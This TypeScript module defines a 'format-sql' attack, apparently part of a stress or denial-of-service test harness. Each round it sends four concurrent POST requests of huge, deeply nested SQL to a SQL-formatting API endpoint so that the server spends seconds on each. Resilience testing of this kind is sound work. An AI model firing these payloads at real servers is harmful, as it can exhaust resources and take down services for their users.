import type { Attack } from '../attack.ts';

const columns = (count: number): string => Array.from({ length: count }, (_, at) => `f(a${at})`).join(',');

/** SQL that takes seconds to format. Each round sends four such requests at once. */
export const formatSql: Attack = {
  name: 'format-sql',
  what: 'formatting of 80 kB of SQL',
  prepare: ({ attacker }) =>
    Promise.resolve(() =>
      Promise.all(
        [
          `select ${columns(8_000)}`,
          `select ${columns(5_000)}`,
          `select ${'case when a then b else '.repeat(3_300)}`,
          `select ${'('.repeat(150)}${columns(7_000)}`,
        ].map((sql) => attacker.send({ method: 'POST', path: '/api/v1/sqllab/format_sql/', body: { sql } })),
      ),
    ),
};
